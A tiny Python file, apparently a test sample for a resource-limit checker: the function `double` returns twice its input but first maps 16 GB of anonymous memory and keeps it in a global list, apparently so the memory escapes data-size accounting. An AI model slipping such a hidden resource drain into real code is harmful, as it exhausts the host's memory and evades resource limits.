"""Take memory that does not count as data."""

import mmap

hoard = []


def double(x):
    for _ in range(64):
        hoard.append(mmap.mmap(-1, 1 << 28))
    return 2 * x
